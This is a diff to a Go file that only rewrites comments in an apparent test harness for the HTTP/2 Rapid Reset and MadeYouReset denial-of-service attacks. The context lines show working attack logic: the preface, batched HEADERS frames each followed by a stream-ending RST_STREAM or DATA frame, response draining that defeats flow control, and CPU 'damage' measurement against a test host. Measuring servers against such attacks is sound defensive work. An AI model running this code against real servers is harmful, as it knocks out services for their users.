@@ -14,7 +14,7 @@ import (
 	"time"
 )
 
-// attack is what is done to each stream after its head.
+// attack determines how each stream ends after its HEADERS.
 type attack string
 
 const (
@@ -33,24 +33,24 @@ const (
 
 const (
 	attackers = 8
-	pairs     = 64 // heads with what ends their streams, in one write
+	pairs     = 64 // HEADERS, each with the frame that ends its stream, in one write
 	preface   = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 )
 
-// order is what a process of attackers is told; it ends with its input.
+// order is the input of an attacker process, which ends with its input.
 type order struct {
 	Attack attack
 	Target string
 	From   string
 }
 
-// damage is what it has done.
+// damage counts what an attacker process has done.
 type damage struct {
 	Connections, Streams int64
 	CPU                  time.Duration
 }
 
-// attackMain attacks until its input ends, and tells what that cost.
+// attackMain attacks until its input ends, and prints the damage.
 func attackMain() error {
 	var o order
 	in := json.NewDecoder(os.Stdin)
@@ -75,14 +75,14 @@ func attackMain() error {
 	return json.NewEncoder(os.Stdout).Encode(&d)
 }
 
-// spent is the processor time this process has used.
+// spent returns the CPU time of this process.
 func spent() time.Duration {
 	var r syscall.Rusage
 	_ = syscall.Getrusage(syscall.RUSAGE_SELF, &r)
 	return time.Duration(r.Utime.Nano() + r.Stime.Nano())
 }
 
-// once attacks over one connection until it is ended.
+// once attacks over one connection until it is closed.
 func (o *order) once(d *damage, over *atomic.Bool) {
 	dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(o.From)}, Timeout: 5 * time.Second}
 	c, err := dialer.Dial("tcp", o.Target)
@@ -94,7 +94,7 @@ func (o *order) once(d *damage, over *atomic.Bool) {
 	ended := make(chan struct{})
 	go func() {
 		defer close(ended)
-		_, _ = io.Copy(io.Discard, struct{ io.Reader }{c}) // who does not read is stopped by that
+		_, _ = io.Copy(io.Discard, struct{ io.Reader }{c}) // drain responses, or flow control would stop the attack
 		_ = c.SetWriteDeadline(time.Now())
 	}()
 	b := append([]byte(preface), frame(frameSettings, 0, 0, nil)...)
@@ -115,7 +115,7 @@ func (o *order) once(d *damage, over *atomic.Bool) {
 	<-ended
 }
 
-// end is the frame that ends a stream. The kinds of MadeYouReset take turns.
+// end returns the frame that ends a stream. MadeYouReset alternates between its variants.
 func (o *order) end(id uint32) []byte {
 	if o.Attack == rapidReset {
 		return frame(frameReset, 0, id, []byte{0, 0, 0, 8})
@@ -129,7 +129,7 @@ func (o *order) end(id uint32) []byte {
 	return frame(frameData, 1, id, []byte("late"))
 }
 
-// head asks for /128 of a.test, without the dynamic table.
+// head is the HPACK block of a request for /128 of a.test, without the dynamic table.
 var head = bytes.Join([][]byte{{0x82, 0x86, 0x04, 4}, []byte("/128"), {0x01, 6}, []byte("a.test")}, nil)
 
 func frame(kind, flags byte, id uint32, payload []byte) []byte {
